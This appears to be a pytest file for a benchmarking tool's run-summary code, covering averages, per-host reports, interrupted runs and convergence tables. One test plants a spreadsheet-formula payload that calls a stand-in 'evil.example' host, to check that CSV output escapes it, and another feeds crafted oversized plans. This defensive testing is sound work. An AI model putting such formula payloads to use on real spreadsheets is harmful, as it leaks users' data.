"""flagperf.results.summary: the run summary built from hand-written result files."""

from __future__ import annotations

import csv
import json
import statistics
from datetime import datetime, timezone
from pathlib import Path
from typing import Any

import pytest

from flagperf.results.schema import Failure, Metric, Peak, Provenance, RoundResult, round_dir, write_result
from flagperf.results.summary import (
    HEADLINE_HEADER,
    REPORT_MD,
    ROW_COLUMNS,
    SUMMARY_CSV,
    SUMMARY_JSON,
    headline_cells,
    read_summary_json,
    render_markdown,
    summarize,
    write_summary,
)

T0 = datetime(2026, 1, 2, tzinfo=timezone.utc)
PEAK = Peak(value=2.0, unit="TFLOPS", source="derived: 2 cores x 1 GHz")
PROV = Provenance(engine_version="0.1.0", git_revision="0123456789abcdef", git_dirty=True,
                  source_digest="sha256:00112233aabbccdd", command="flagperf run",
                  python="3.11.9", libraries={"torch": "2.13.0", "prefect": "3.8.8"}, host={},
                  image={"status": "none"}, config_origins={}, run_overrides={})


def put(run_dir: Path, case: str, round_no: int, status: str = "success", metrics: list[Metric] | None = None,
        failure: Failure | None = None, host: str = "localhost") -> None:
    result = RoundResult(run_id=run_dir.name, case=case, family="base", round=round_no, host=host, node_rank=0,
                         vendor="cpu", status=status, failure=failure, started_at=T0, finished_at=T0,
                         duration_s=1.0, measured_seconds=1.0, device="Test CPU" if status == "success" else None,
                         metrics=metrics or [], config={}, provenance=PROV)
    write_result(round_dir(run_dir, case, round_no, host) / "result.json", result)


def gemm(value: float, cv: float = 0.02, peak: Peak | None = PEAK) -> Metric:
    ratio = value / peak.value if peak and peak.value else None
    return Metric(name="gemm_fp32", value=value, unit="TFLOPS", p50=value * 0.9, cv=cv, chunks=10, iterations=100,
                  measured_seconds=1.0, peak=peak, ratio=ratio, convention="2*M*N*K")


@pytest.fixture
def run_dir(tmp_path: Path) -> Path:
    run = tmp_path / "run42"
    put(run, "computation-FP32", 1, metrics=[gemm(1.0)])
    put(run, "computation-FP32", 2, metrics=[gemm(1.5)])
    put(run, "fast-case", 1, metrics=[gemm(3.0, cv=0.05)])
    put(run, "computation-BF16", 1, status="unsupported",
        failure=Failure(kind="unsupported", message="bf16 on Test CPU: no native BF16"))
    put(run, "user-error", 1, status="failed", failure=Failure(kind="user", message="m must be > 16"))
    corrupt = round_dir(run, "computation-FP64", 1, "localhost") / "result.json"
    corrupt.parent.mkdir(parents=True)
    corrupt.write_text("{not json", encoding="utf-8")
    (run / "plan.json").write_text("{}", encoding="utf-8")  # not a result: ignored
    return run


def headline(summary, case: str) -> dict[str, Any]:
    return next(e for e in summary.headline if e["case"] == case)


def test_counts_and_problems(run_dir: Path) -> None:
    s = summarize(run_dir)
    assert s.run_id == "run42"
    assert s.counts == {"rounds": 5, "success": 3, "unsupported": 1, "failed": 1}
    assert len(s.problems) == 1
    assert s.problems[0].startswith("computation-FP64/round1/localhost_noderank0/result.json: unreadable result")
    assert "\n" not in s.problems[0]
    assert not s.all_succeeded


def test_mean_and_spread_across_rounds(run_dir: Path) -> None:
    e = headline(summarize(run_dir), "computation-FP32")
    assert e["metric"] == "gemm_fp32"
    assert e["value"] == pytest.approx(1.25)
    assert e["unit"] == "TFLOPS"
    assert e["rounds"] == 2
    assert e["spread_over"] == "rounds"
    assert e["spread_cv"] == pytest.approx(statistics.stdev([1.0, 1.5]) / statistics.mean([1.0, 1.5]))
    assert e["p50"] == pytest.approx(statistics.median([0.9, 1.35]))
    assert e["peak"] == 2.0
    assert e["peak_unit"] == "TFLOPS"
    assert e["ratio"] == pytest.approx(1.25 / 2.0)
    assert e["above_peak"] is False
    assert e["convention"] == "2*M*N*K"
    assert e["peak_source"] == PEAK.source


def test_a_fleets_spread_says_it_is_over_hosts_and_devices(tmp_path: Path) -> None:
    """One round on three hosts of two devices: the headline's spread is the hosts' and devices', which the
    console and report must not call the rounds' (it was "±x% (rounds)")."""
    run = tmp_path / "fleet"
    for host, values in (("h1", [1.0, 1.2]), ("h2", [1.1, 1.3]), ("h3", [0.9, 1.0])):
        metrics = [gemm(v).model_copy(update={"device": i}) for i, v in enumerate(values)]
        put(run, "computation-FP32", 1, metrics=metrics, host=host)
    e = headline(summarize(run), "computation-FP32")
    assert e["spread_over"] == "hosts, devices" and e["rounds"] == 1
    assert e["spread_cv"] == pytest.approx(statistics.stdev([1.0, 1.2, 1.1, 1.3, 0.9, 1.0])
                                           / statistics.mean([1.0, 1.2, 1.1, 1.3, 0.9, 1.0]))


def test_a_two_host_report_says_its_figures_are_over_hosts_and_shows_each_hosts(tmp_path: Path) -> None:
    """2 hosts x 1 round: the headline is the mean over both hosts, which the report must say (it said "the mean
    over rounds" and "rounds: 1"), and a lab comparing hosts finds each host's own figure in the report."""
    run = tmp_path / "two-hosts"
    put(run, "computation-FP32", 1, metrics=[gemm(1.0)], host="h1")
    put(run, "computation-FP32", 1, metrics=[gemm(1.5)], host="h2")
    summary = summarize(run)
    e = headline(summary, "computation-FP32")
    assert e["value"] == pytest.approx(1.25) and e["rounds"] == 1 and e["hosts"] == 2 and e["spread_over"] == "hosts"
    cells = dict(zip(HEADLINE_HEADER, headline_cells(e), strict=True))
    assert cells["rounds"] == "1 × 2 hosts" and cells["spread (CV)"].endswith("(hosts)")
    md = render_markdown(summary)
    assert "Measured = the mean over rounds and hosts of each host's figure in each round" in md
    assert "the mean over rounds of each round's figure" not in md
    assert "| computation-FP32 | gemm_fp32 | TFLOPS | h1 | 1 | 1 | - | 80.0% |" in md.split("## Every host")[1]
    assert "| computation-FP32 | gemm_fp32 | TFLOPS | h2 | 1 | 1.5 | - | 120.0% |" in md
    write_summary(run, summary)
    assert [(h["host"], h["value"]) for h in read_summary_json(run)["per_host"]] == [("h1", 1.0), ("h2", 1.5)]
    # One host: the report reads as before, without a section of one host.
    put(tmp_path / "one-host", "computation-FP32", 1, metrics=[gemm(1.0)], host="h1")
    put(tmp_path / "one-host", "computation-FP32", 2, metrics=[gemm(1.5)], host="h1")
    single = summarize(tmp_path / "one-host")
    assert headline_cells(headline(single, "computation-FP32"))[HEADLINE_HEADER.index("rounds")] == "2"
    assert "## Every host" not in render_markdown(single) and single.per_host == []
    assert "the mean over rounds of each round's figure" in render_markdown(single)


def test_a_host_that_missed_a_round_is_counted_in_the_rounds_column(tmp_path: Path) -> None:
    """h1 rounds 1 and 2, h2 round 1 only: the headline averages 3 figures (1.167, not the hosts' mean 1.25), so
    the column says 3 and that one is missing (it said "2 × 2 hosts"), and Every host does not call the headline
    the mean over the hosts."""
    run = tmp_path / "one-missing"
    put(run, "computation-FP32", 1, metrics=[gemm(1.0)], host="h1")
    put(run, "computation-FP32", 2, metrics=[gemm(1.0)], host="h1")
    put(run, "computation-FP32", 1, metrics=[gemm(1.5)], host="h2")
    summary = summarize(run)
    e = headline(summary, "computation-FP32")
    assert e["value"] == pytest.approx(3.5 / 3) and e["figures"] == 3
    assert headline_cells(e)[HEADLINE_HEADER.index("rounds")] == "3 (2 rounds × 2 hosts, 1 missing)"
    md = render_markdown(summary)
    assert "the headline (the mean of every host's figures" in md and "mean over every host" not in md
    per_host = {h["host"]: h for h in summary.per_host}
    assert per_host["h2"]["vs_mean"] == pytest.approx(1.5 / (3.5 / 3))


def test_single_round_spread_is_over_chunks_and_above_peak_flagged(run_dir: Path) -> None:
    e = headline(summarize(run_dir), "fast-case")
    assert e["rounds"] == 1
    assert e["value"] == 3.0
    assert e["spread_over"] == "chunks"
    assert e["spread_cv"] == pytest.approx(0.05)
    assert e["ratio"] == pytest.approx(1.5)
    assert e["above_peak"] is True


def test_not_measured(run_dir: Path) -> None:
    s = summarize(run_dir)
    assert {e["case"] for e in s.headline} == {"computation-FP32", "fast-case"}
    nm = sorted(s.not_measured, key=lambda e: e["case"])
    assert nm == [
        {"case": "computation-BF16", "round": 1, "host": "localhost", "status": "unsupported",
         "kind": "unsupported", "message": "bf16 on Test CPU: no native BF16"},
        {"case": "user-error", "round": 1, "host": "localhost", "status": "failed", "kind": "user",
         "message": "m must be > 16"},
    ]


def test_rows(run_dir: Path) -> None:
    rows = summarize(run_dir).rows
    assert list(rows.columns) == ROW_COLUMNS
    assert len(rows) == 5
    fp32 = rows[rows["case"] == "computation-FP32"].sort_values("round")
    assert list(fp32["value"]) == [1.0, 1.5]
    assert list(fp32["ratio"]) == [0.5, 0.75]


def test_context_from_provenance(run_dir: Path) -> None:
    ctx = summarize(run_dir).context
    assert ctx["vendor"] == "cpu"
    assert ctx["device"] == "Test CPU"
    assert ctx["hosts"] == ["localhost"]
    assert ctx["torch"] == "2.13.0"
    assert ctx["prefect"] == "3.8.8"
    assert ctx["git_revision"] == "0123456789abcdef"
    assert "at git 0123456789ab (modified), source sha256:00112233aabbccdd;" in render_markdown(summarize(run_dir))


def test_write_summary_files(run_dir: Path) -> None:
    s = summarize(run_dir)
    paths = write_summary(run_dir, s)
    assert paths == {"csv": run_dir / SUMMARY_CSV, "json": run_dir / SUMMARY_JSON, "markdown": run_dir / REPORT_MD}
    assert not [p.name for p in run_dir.iterdir() if p.name.startswith(".")]  # no temp files left

    with (run_dir / SUMMARY_CSV).open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == ROW_COLUMNS
    assert len(rows) == 5

    data = read_summary_json(run_dir)
    assert data == json.loads(json.dumps(s.to_json(), default=str))
    assert data["counts"] == s.counts
    assert len(data["problems"]) == 1
    fp32 = next(e for e in data["headline"] if e["case"] == "computation-FP32")
    assert isinstance(fp32["value"], float)  # numbers stay numbers, not strings
    assert isinstance(fp32["p50"], float)
    assert fp32["value"] == pytest.approx(1.25)

    md = (run_dir / REPORT_MD).read_text(encoding="utf-8")
    assert md.startswith("# FlagPerf evaluation run42")
    assert "| " + " | ".join(HEADLINE_HEADER) + " |" in md
    assert "| computation-FP32 | gemm_fp32 | 1.25 | TFLOPS |" in md
    assert "62.5%" in md
    assert "150.0% (above peak!)" in md
    assert "## Not measured" in md
    assert "- computation-BF16 round 1 on localhost: **unsupported**: bf16 on Test CPU: no native BF16" in md
    assert "- user-error round 1 on localhost: **failed** (user): m must be > 16" in md
    assert "## Unreadable result files" in md
    assert "computation-FP64/round1/localhost_noderank0/result.json" in md
    assert "rounds: 5 (3 succeeded, 1 unsupported, 1 failed)" in md
    assert "0123456789ab (modified)" in md
    assert "A measurement above its peak" in md


def test_summary_csv_keeps_a_formula_shaped_message_as_text(tmp_path: Path) -> None:
    """A case's failure message shaped as a spreadsheet formula reaches summary.csv as text ('=…), never a formula a
    lab's spreadsheet would run on opening it; numbers, negative ones too, stay numbers."""
    run = tmp_path / "run43"
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    put(run, "evil-case", 1, status="failed", failure=Failure(kind="user", message=formula))
    put(run, "computation-FP32", 1, metrics=[Metric(name="offset", value=-2.5, unit="s")])
    write_summary(run, summarize(run))
    with (run / SUMMARY_CSV).open(newline="", encoding="utf-8") as handle:
        rows = {row["case"]: row for row in csv.DictReader(handle)}
    assert rows["evil-case"]["message"] == "'" + formula
    assert rows["computation-FP32"]["value"] == "-2.5"


def test_ratio_needs_matching_units_and_a_peak(tmp_path: Path) -> None:
    run = tmp_path / "run"
    other_unit = Peak(value=2.0, unit="GB/s", source="x")
    put(run, "a", 1, metrics=[Metric(name="m", value=1.0, unit="TFLOPS", peak=other_unit, ratio=None)])
    put(run, "b", 1, metrics=[gemm(1.0, peak=None)])
    s = summarize(run)
    assert headline(s, "a")["ratio"] is None
    b = headline(s, "b")
    assert (b["ratio"], b["peak"], b["above_peak"]) == (None, None, False)
    assert "| b | gemm_fp32 | 1 | TFLOPS |" in render_markdown(s)
    assert "unknown" in render_markdown(s)
    assert s.all_succeeded


def test_no_cv_anywhere(tmp_path: Path) -> None:
    run = tmp_path / "run"
    put(run, "a", 1, metrics=[Metric(name="m", value=1.0, unit="GiB")])
    e = headline(summarize(run), "a")
    assert (e["spread_cv"], e["spread_over"], e["p50"]) == (None, None, None)


def test_empty_run(tmp_path: Path) -> None:
    run = tmp_path / "empty"
    run.mkdir()
    s = summarize(run)
    assert s.counts == {"rounds": 0, "success": 0, "unsupported": 0, "failed": 0}
    assert s.headline == [] and s.not_measured == [] and s.problems == []
    assert not s.all_succeeded
    write_summary(run, s)
    assert read_summary_json(run)["counts"]["rounds"] == 0
    assert "## Not measured" not in (run / REPORT_MD).read_text(encoding="utf-8")


def test_interrupted_run_says_what_was_planned_stopped_and_not_started(tmp_path: Path) -> None:
    from flagperf.results.summary import run_progress

    run = tmp_path / "run-stopped"
    run.mkdir()
    plan = {"rounds": 2, "hosts": [{"name": "a"}, {"name": "b"}],
            "cases": [{"name": "gemm", "config": {}}, {"name": "train", "config": {"nnodes": 2}}]}
    (run / "plan.json").write_text(json.dumps(plan), encoding="utf-8")
    assert run_progress(run, [])["planned"] == 8  # gemm on each host, train on both nodes, twice each
    (run / "interrupted.json").write_text(json.dumps({"reason": "SIGTERM", "at": "now", "running": ["gemm", 2]}),
                                          encoding="utf-8")
    progress = run_progress(run, [])
    assert progress["done"] == 0 and progress["interrupted"]["reason"] == "SIGTERM"
    assert progress["stopped"] == ["gemm round 2 on a", "gemm round 2 on b"]
    assert "train round 1 on b (node 1)" in progress["not_started"] and len(progress["not_started"]) == 6
    md = render_markdown(summarize(run))
    assert "**interrupted** (SIGTERM) at now: 0 of 8 planned rounds done, 2 stopped while running, 6 not started" in md
    assert "## Stopped while running" in md and "## Not started" in md


def test_the_planned_rounds_of_a_multi_host_run_say_they_count_each_host(tmp_path: Path) -> None:
    """2 rounds on 2 hosts plan 4 records: the report says what the count multiplies (it said '4 of 4 planned' of a
    2-round run), and where a case runs on fewer hosts (its nnodes), their sum."""
    from flagperf.results.summary import run_progress

    run = tmp_path / "two-hosts"
    for host in ("h1", "h2"):
        for round_no in (1, 2):
            put(run, "computation-FP32", round_no, metrics=[gemm(1.0)], host=host)
    plan = {"rounds": 2, "hosts": [{"name": "h1"}, {"name": "h2"}], "cases": [{"name": "computation-FP32"}]}
    (run / "plan.json").write_text(json.dumps(plan), encoding="utf-8")
    assert "- rounds: 4 of 4 planned (2 rounds × 2 hosts; 4 succeeded, 0 unsupported, 0 failed)" in render_markdown(
        summarize(run))
    plan["cases"] += [{"name": "train", "config": {"nnodes": 2}}, {"name": "alone", "config": {"nnodes": 1}}]
    (run / "plan.json").write_text(json.dumps(plan), encoding="utf-8")
    assert run_progress(run, [])["planned_as"] == "3 cases × 2 rounds × 2 hosts"
    # Several cases on several hosts, one of them on fewer (nnodes 2 of 3 hosts): grouped by their hosts, and what
    # the line says multiplies to the count (it said '2 rounds × 8 hosts of the 3 cases' of 3 hosts).
    plan["hosts"].append({"name": "h3"})
    (run / "plan.json").write_text(json.dumps(plan), encoding="utf-8")
    progress = run_progress(run, [])
    assert (progress["planned"], progress["planned_as"]) == (16, "2 rounds × (2 cases × 3 hosts + 1 case × 2 hosts)")
    plan["hosts"].append({"name": "h4"})
    plan["cases"] += [{"name": "wide", "config": {"nnodes": 3}}, {"name": "more", "config": {"nnodes": 1}}]
    (run / "plan.json").write_text(json.dumps({**plan, "rounds": 1}), encoding="utf-8")
    progress = run_progress(run, [])
    assert (progress["planned"], progress["planned_as"]) == (
        1 * (3 * 4 + 1 * 3 + 1 * 2), "1 round × (3 cases × 4 hosts + 1 case × 3 hosts + 1 case × 2 hosts)")
    # One case on one host: the rounds alone, as before.
    put(tmp_path / "one", "computation-FP32", 1, metrics=[gemm(1.0)])
    (tmp_path / "one" / "plan.json").write_text(json.dumps({**plan, "rounds": 1, "hosts": [],
                                                            "cases": plan["cases"][:1]}), encoding="utf-8")
    assert "- rounds: 1 of 1 planned (1 succeeded, 0 unsupported, 0 failed)" in render_markdown(
        summarize(tmp_path / "one"))


def test_a_plan_whose_rounds_or_nnodes_no_planner_wrote_plans_nothing(tmp_path: Path) -> None:
    """rounds or nnodes beyond the planner's limits, or no whole number (1e999 is infinity: int() of it overflowed
    out of summarize, report, compare and diagnose; 3,000,000 rounds built a list of millions): the plan is read as
    no plan, the counts alone, and its rounds are not looked for."""
    from flagperf.results.summary import hosts_left_out, run_progress

    run = tmp_path / "odd-plan"
    put(run, "computation-FP32", 1, metrics=[gemm(1.0)], host="h1")
    plan = '{"rounds": %s, "hosts": [{"name": "h1"}, {"name": "h2"}], "cases": [{"name": "computation-FP32", ' \
           '"config": {"nnodes": %s}}]}'
    for rounds, nnodes in (("1e999", "1"), ("2", "1e999"), ("3000000", "1"), ("2", "3000000"), ("2.5", "1"),
                           ("true", "1"), ("0", "1"), ("2", "2.0"), ("2", "false"), ("-1e999", "1")):
        (run / "plan.json").write_text(plan % (rounds, nnodes), encoding="utf-8")
        summary = summarize(run)
        assert run_progress(run, []) == {} and summary.progress == {}, (rounds, nnodes)
        assert "planned" not in render_markdown(summary), (rounds, nnodes)
        assert hosts_left_out(run, summary) is None, (rounds, nnodes)
    (run / "plan.json").write_text(plan % ("100", "2"), encoding="utf-8")  # the planner's limits: a plan
    assert run_progress(run, [])["planned"] == 200
    # Each factor within its limit, their product not: a few hundred KB of names (3,000 hosts x 3,000 cases x
    # 100 rounds) built a list of 900 million host rounds and ran out of memory; beyond MAX_PLANNED_HOST_ROUNDS
    # (here just beyond it, 600,000, which the old code still built quickly) a plan is read as no plan
    crafted = {"rounds": 100, "hosts": [{"name": f"h{i}"} for i in range(600)],
               "cases": [{"name": f"c{i}"} for i in range(10)]}
    (run / "plan.json").write_text(json.dumps(crafted), encoding="utf-8")
    summary = summarize(run)
    assert run_progress(run, []) == {} and hosts_left_out(run, summary) is None


def test_a_round_measured_but_not_collected_when_interrupted_is_not_called_stopped(tmp_path: Path) -> None:
    """Stopped while its result was copied back: the round was measured and waits on its host for the retry that
    collects it, so the report and the CLI's line count it apart from the rounds lost while running."""
    from flagperf.results.summary import progress_line, run_progress

    run = tmp_path / "run-collecting"
    run.mkdir()
    plan = {"rounds": 2, "hosts": [{"name": "a"}, {"name": "b"}], "cases": [{"name": "gemm", "config": {}}]}
    (run / "plan.json").write_text(json.dumps(plan), encoding="utf-8")
    retry = "`flagperf run --cases gemm --retry run-collecting`"
    (run / "interrupted.json").write_text(json.dumps(
        {"reason": "SIGINT", "at": "now", "running": ["gemm", 1], "measured_on_host": [["gemm", 1, "b", 0]],
         "retry": retry}), encoding="utf-8")
    progress = run_progress(run, [])
    assert progress["measured"] == ["gemm round 1 on b"] and progress["kept_on"] == ["b"]
    assert progress["stopped"] == ["gemm round 1 on a"] and len(progress["not_started"]) == 2
    line = f"0 of 4 planned rounds done, 1 measured, kept on host b ({retry} collects it), 1 stopped while running, " \
           "2 not started"
    assert progress_line(progress) == line
    md = render_markdown(summarize(run))
    assert f"**interrupted** (SIGINT) at now: {line}" in md
    assert "## Measured, not yet collected" in md and "- gemm round 1 on b" in md
    assert f"Not lost: kept on b; {retry} stores it without measuring again." in md
    # A summary written before rounds on a host were counted reads as it did.
    old = {k: v for k, v in progress.items() if k not in ("measured", "kept_on")}
    assert progress_line(old) == "0 of 4 planned rounds done, 1 stopped while running, 2 not started"


def test_the_report_names_the_peak_an_mfu_is_taken_against(tmp_path: Path) -> None:
    """A throughput in items/s has no peak of its own, but its MFU has one: the report says which, with its
    value and source (it said "peak: none in the vendor spec table" beside an MFU of 1.9 %)."""
    run = tmp_path / "run7"
    rate = Metric(name="inference_core", value=1000.0, unit="images/s", iterations=10, measured_seconds=1.0,
                  mfu=0.25, mfu_peak_key="fp32", mfu_peak=PEAK, convention="MFU = 5e8 FLOP per image x images/s")
    put(run, "resnet50-infer", 1, metrics=[rate, gemm(1.0)])
    s = summarize(run)
    assert headline(s, "resnet50-infer")["mfu_peak"] == "the fp32 peak, 2 TFLOPS (derived: 2 cores x 1 GHz)"
    text = render_markdown(s)
    assert ("- resnet50-infer / inference_core: MFU = 5e8 FLOP per image x images/s; peak: none in images/s; "
            "MFU against the fp32 peak, 2 TFLOPS (derived: 2 cores x 1 GHz)") in text
    # The convention is text, escaped: 2*M*N*K, never Markdown emphasis (2<em>M</em>N*K in report.html).
    assert "- resnet50-infer / gemm_fp32: 2\\*M\\*N\\*K; peak: derived: 2 cores x 1 GHz\n" in text


def test_the_report_says_whether_each_training_round_converged(tmp_path: Path) -> None:
    """FlagPerf's per-case verdict: a round that missed its target is shown as a result (summary.json and a
    Convergence section), as is one that reached it; a round without a target adds no row."""
    from flagperf.results.schema import Convergence

    run = tmp_path / "run-train"
    for round_no, reached in ((1, 0.97), (2, 0.91)):
        result = RoundResult(
            run_id=run.name, case="digits-mlp", family="training", round=round_no, host="localhost", node_rank=0,
            vendor="cpu", status="success", started_at=T0, finished_at=T0, duration_s=1.0, measured_seconds=1.0,
            device="Test CPU", metrics=[gemm(1.0)], config={}, provenance=PROV,
            convergence=Convergence(metric="accuracy", target=0.95, reached=reached, converged=reached >= 0.95,
                                    epochs=4, steps=120))
        write_result(round_dir(run, "digits-mlp", round_no, "localhost") / "result.json", result)
    put(run, "computation-FP32", 1, metrics=[gemm(1.0)])
    summary = summarize(run)
    assert [(e["round"], e["converged"], e["reached"]) for e in summary.convergence] == [(1, True, 0.97),
                                                                                         (2, False, 0.91)]
    assert summary.to_json()["convergence"][1]["target"] == 0.95
    text = render_markdown(summary)
    assert "## Convergence" in text
    assert "| digits-mlp | 1 | localhost | accuracy | 0.95 | 0.97 | yes | 4 | 120 |" in text
    assert "| digits-mlp | 2 | localhost | accuracy | 0.95 | 0.91 | **no** | 4 | 120 |" in text


def test_a_sparse_peak_is_shown_as_one_with_why_no_ratio(tmp_path: Path) -> None:
    """A vendor's 2:4-sparse datasheet figure (dense: false): the table showed it as the peak beside a bare "-"
    for measured/peak, as if the ratio had been lost; it now says the peak is sparse and why there is none."""
    run = tmp_path / "run"
    sparse = Peak(value=960.0, unit="TFLOPS", source="XC-100 datasheet, with sparsity", dense=False)
    put(run, "computation-FP16", 1, metrics=[Metric(name="gemm_fp16", value=300.0, unit="TFLOPS", peak=sparse,
                                                    ratio=None)])
    put(run, "computation-FP32", 1, metrics=[gemm(1.0)])
    s = summarize(run)
    cells = headline_cells(headline(s, "computation-FP16"))
    assert (cells[6], cells[7]) == ("960 TFLOPS (sparse)", "- (sparse peak: none)"), cells
    dense = headline_cells(headline(s, "computation-FP32"))
    assert (dense[6], dense[7]) == ("2 TFLOPS", "50.0%"), dense
    assert "| 960 TFLOPS (sparse) | - (sparse peak: none) |" in render_markdown(s)


def test_a_running_retry_is_not_taken_for_a_finished_run_by_its_earlier_summary(tmp_path: Path) -> None:
    """A retry sets the interruption record and the rounds it runs again aside into retries/, but the earlier
    attempt's summary.json stays until the retry's last step writes it again: meanwhile the run is not finished, and
    a planned round with no folder is one not run yet, not 'never run there'."""
    import os

    from flagperf.results.summary import hosts_left_out

    run = tmp_path / "retried"
    put(run, "computation-FP32", 1, metrics=[gemm(1.0)], host="h1")
    (run / "plan.json").write_text(json.dumps({"rounds": 1, "hosts": [{"name": "h1"}, {"name": "h2"}],
                                               "cases": [{"name": "computation-FP32"}]}), encoding="utf-8")
    summary_file = run / SUMMARY_JSON
    summary_file.write_text("{}", encoding="utf-8")
    summary = summarize(run)
    never = "1 host round left out of the figures: h2_noderank0 (computation-FP32 round1: no folder, never run there)"
    assert never in (hosts_left_out(run, summary) or "")
    # The retry sets the earlier attempt's interruption record aside (the earlier summary.json is older than that)
    aside = run / "retries" / "attempt1"
    aside.mkdir(parents=True)
    (aside / "interrupted.json").write_text('{"reason": "SIGINT"}', encoding="utf-8")
    before = os.stat(aside).st_mtime_ns - 60 * 10**9
    os.utime(summary_file, ns=(before, before))
    line = hosts_left_out(run, summary) or ""
    assert ("h2_noderank0 (computation-FP32 round1: not run (yet): the run is not finished (a retry runs: its "
            "summary.json is an earlier attempt's))") in line and "never run" not in line, line
    # A round set aside deeper (retries/attempt1/<case>/<round>/) counts as the retry's too
    after = os.stat(aside).st_mtime_ns + 60 * 10**9
    os.utime(summary_file, ns=(after, after))
    assert never in (hosts_left_out(run, summary) or "")  # the retry's own summary.json, written after: ended
    (aside / "computation-FP32" / "round1").mkdir(parents=True)
    later = after + 60 * 10**9
    os.utime(aside / "computation-FP32" / "round1", ns=(later, later))
    assert "a retry runs" in (hosts_left_out(run, summary) or "")


def test_an_empty_interruption_record_is_no_interruption_to_the_left_out_line_as_to_the_report(
        tmp_path: Path) -> None:
    """interrupted.json holding {} gives the report no 'interrupted' line; the line of host rounds left out read it
    as an interruption all the same ('not started (the run was interrupted)'): both read it as none."""
    from flagperf.results.summary import INTERRUPTED_FILE, hosts_left_out

    run = tmp_path / "empty-record"
    put(run, "computation-FP32", 1, metrics=[gemm(1.0)], host="h1")
    (run / "plan.json").write_text(json.dumps({"rounds": 1, "hosts": [{"name": "h1"}, {"name": "h2"}],
                                               "cases": [{"name": "computation-FP32"}]}), encoding="utf-8")
    (run / SUMMARY_JSON).write_text("{}", encoding="utf-8")
    (run / INTERRUPTED_FILE).write_text("{}", encoding="utf-8")
    summary = summarize(run)
    assert "interrupted" not in render_markdown(summary)
    line = hosts_left_out(run, summary) or ""
    assert "h2_noderank0 (computation-FP32 round1: no folder, never run there)" in line and "interrupted" not in line


def test_a_run_whose_controller_was_killed_reads_as_ended_not_as_not_run_yet(tmp_path: Path) -> None:
    """A run killed hard (SIGKILL, a power cut: no summary.json, no interruption record) read 'not run (yet): the
    run is not finished' forever. Its controller holds controller.lock (a lock) while it runs: held, the run reads as
    not finished; once the process is gone (killed here, for real), as ended without its summary. A second controller
    is refused while the first runs. A record of another machine, or none (an older run), reads as before."""
    import json as json_module
    import os
    import signal
    import socket

    from flagperf.results.controller import CONTROLLER_FILE, RunHeld, controller_record
    from flagperf.results.summary import hosts_left_out
    from tests.unit.controllers import controller as controller_process

    run = tmp_path / "killed"
    put(run, "computation-FP32", 1, metrics=[gemm(1.0)], host="h1")
    (run / "plan.json").write_text(json.dumps({"rounds": 1, "hosts": [{"name": "h1"}, {"name": "h2"}],
                                               "cases": [{"name": "computation-FP32"}]}), encoding="utf-8")
    summary = summarize(run)
    not_yet = "h2_noderank0 (computation-FP32 round1: not run (yet): the run is not finished (no summary.json))"
    assert not_yet in (hosts_left_out(run, summary) or "")  # no record: as before
    holder, _ = controller_process(run)
    try:
        assert not_yet in (hosts_left_out(run, summary) or "")  # running: held
        with pytest.raises(RunHeld, match=f"another controller is running this run \\(pid {holder.pid} on "), \
                controller_record(run, run / SUMMARY_JSON):
            pass
        record = json_module.loads((run / CONTROLLER_FILE).read_text(encoding="utf-8"))
        assert (record["pid"], record["host"], record["flow_run_id"]) == (holder.pid, socket.gethostname(), "flow-1")
    finally:
        holder.send_signal(signal.SIGKILL)
        holder.wait()
    line = hosts_left_out(run, summary) or ""
    assert (f"h2_noderank0 (computation-FP32 round1: not run: the run ended without its summary.json, its controller "
            f"(pid {holder.pid} on {socket.gethostname()}) is gone: killed, or its machine stopped)") in line, line
    # A folder with no result.json, the same
    round_dir(run, "computation-FP32", 1, "h2", 0).mkdir(parents=True)
    assert "h2_noderank0 (computation-FP32 round1: no result.json: the run ended without" in (
        hosts_left_out(run, summary) or "")
    # A retry, in this process: runs, so not gone; its record replaces the killed one's. Ended without its summary,
    # it says so
    with controller_record(run, run / SUMMARY_JSON):
        assert "(yet): the run is not finished" in (hosts_left_out(run, summary) or "")
    assert (f"no result.json: the run ended without its summary.json, its controller (pid {os.getpid()} on "
            f"{socket.gethostname()}) ended without writing it)") in (hosts_left_out(run, summary) or "")
    # A record of another machine: its lock cannot be told from here
    record = json_module.loads((run / CONTROLLER_FILE).read_text(encoding="utf-8"))
    del record["ended"], record["how"]
    (run / CONTROLLER_FILE).write_text(json_module.dumps({**record, "host": "elsewhere", "pid": holder.pid}),
                                       encoding="utf-8")
    assert "(yet): the run is not finished" in (hosts_left_out(run, summary) or "")
    # Its summary.json written: ended, the record not asked
    (run / SUMMARY_JSON).write_text("{}", encoding="utf-8")
    assert "h2_noderank0 (computation-FP32 round1: no result.json)" in (hosts_left_out(run, summary) or "")
